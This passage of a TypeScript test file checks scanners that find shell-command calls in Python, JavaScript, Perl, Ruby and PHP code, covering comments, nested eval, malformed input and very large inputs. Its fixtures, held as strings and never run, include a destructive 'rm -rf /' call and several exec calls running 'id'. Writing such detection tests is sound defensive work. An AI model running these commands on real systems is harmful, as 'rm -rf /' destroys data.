    [scanPython, 's = """\nos.system("rm -rf /")\n""" # os.system("x")'],
    [scanJavaScript, '/* require("child_process").exec("x") */ const s = `exec("x")`'],
    [scanPerl, '=pod\n\nsystem("x")\n\n=cut\nprint q{system("x")}'],
    [scanRuby, '=begin\nsystem("x")\n=end\nputs %q(system("x"))'],
    [scanPhp, '/* system("x") */ # system("y")\n$s = \'system("z")\';'],
  ];
  for (const [scan, code] of quiet) assert.deepEqual(nonEmpty(scan(code)), {}, code);
});

test('eval inside eval is followed a few levels, then reported', () => {
  assert.deepEqual(scanPython('exec("exec(\\"import os; os.system(\'id\')\\")")').shell, ['id']);
  let code = 'import os; os.system("id")';
  for (let i = 0; i < 6; i++) code = `exec(${JSON.stringify(code)})`;
  const fx = scanPython(code);
  assert.deepEqual(fx.shell, []);
  assert.ok(
    fx.unknown.some((u) => u.includes('nested too deeply')),
    fx.unknown.join('; '),
  );
});

test('malformed input and binary junk never throw', () => {
  const scanners = [scanPython, scanJavaScript, scanPerl, scanRuby, scanPhp];
  const samples = [
    '',
    '"',
    "'''",
    '`${',
    'f"{',
    '"#{',
    '<<EOF',
    '<<<EOT',
    's/',
    'q{',
    ')))]]]}}}',
    '((((',
    '\u0000\uffff\ud800',
    'os.system(',
    '=begin',
    '=pod',
    '<?php',
    '?>',
    'constructor(1); toString(); __proto__.x(); hasOwnProperty("a")',
    'use constructor; use toString;',
  ];
  let seed = 7;
  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  const alphabet = ' \n\t"\'`$@%&*(){}[]<>/\\#;:,.=+-!?|~^0123456789osystemqrEOF_';
  for (let k = 0; k < 400; k++) {
    let s = '';
    for (let i = 0; i < 120; i++) s += alphabet[Math.floor(next() * alphabet.length)];
    samples.push(s);
  }
  for (const scan of scanners)
    for (const s of samples) {
      // scanners catch their own failures and say so: that must not happen
      const fx = scan(s);
      assert.ok(
        !fx.unknown.some((u) => u.includes('could not be read')),
        `${scan.name}: ${JSON.stringify(s)}`,
      );
    }
});

test('a 1 MiB input is scanned completely, in linear time', () => {
  const MiB = 1 << 20;
  const fill = (unit: string) => unit.repeat(Math.ceil(MiB / unit.length));
  // the answer must be exact at the end of a large input: nothing is dropped, nothing invented
  assert.deepEqual(scanPython(fill('x = [1, 2]; print(x) # note\n') + 'import os; os.system("id")').shell, [
    'id',
  ]);
  assert.deepEqual(
    scanJavaScript(fill('const a = `t${1}`; f(a, /r/g);\n') + 'require("child_process").execSync("id")')
      .shell,
    ['id'],
  );
  assert.deepEqual(scanPerl(fill('my $x = "a" . q{b}; print $x;\n') + 'system("id")').shell, ['id']);
  assert.deepEqual(scanRuby(fill('x = "a#{1}"; puts x\n') + 'system("id")').shell, ['id']);
  assert.deepEqual(scanPhp(fill('$x = "a{$y}"; echo $x;\n') + 'system("id");').shell, ['id']);
  // pathological shapes: deep unclosed nesting, endless strings and operators
  for (const unit of ['(', 'f(', '"', '`${', 'system ', 'system "a", ', '<<<EOT\n', '$', 'a.'])
    for (const scan of [scanPython, scanJavaScript, scanPerl, scanRuby, scanPhp])
      assert.ok(
        !scan(fill(unit)).unknown.some((u) => u.includes('could not be read')),
        `${scan.name}: ${unit}`,
      );
});
